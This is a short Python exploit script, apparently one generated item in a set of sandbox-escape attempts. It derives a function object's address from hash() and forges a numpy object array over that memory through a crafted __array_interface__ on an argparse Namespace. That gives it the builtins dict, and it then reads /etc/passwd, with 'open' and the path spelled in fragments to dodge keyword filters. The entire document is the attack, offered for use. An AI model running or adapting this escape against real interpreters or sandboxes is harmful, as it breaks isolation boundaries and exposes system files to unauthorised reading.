# source: argparse docs (prefix_chars, dest derived from option string); numpy __array_interface__ pointer trick; CPython _Py_HashPointer (hash(obj) is the rotated address)
# family: argparse dest derivation -> __array_interface__ on Namespace -> object array over function object; address from hash()
# goal: builtins dict -> open() -> /etc/passwd
import numpy as np
import argparse
def f():
    return 1
h = hash(f) & (2 ** 64 - 1)
addr = ((h << 4) | (h >> 60)) & (2 ** 64 - 1)
spec = {"data": (addr + 16, False), "shape": (2,), "typestr": "|O", "version": 3}
p = argparse.ArgumentParser(prefix_chars="+")
p.add_argument("+--array-interface--", action="store_const", const=spec)
ns = p.parse_args(["+--array-interface--"])
a = np.array(ns, copy=False)
b = a[1]
o = b["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read())
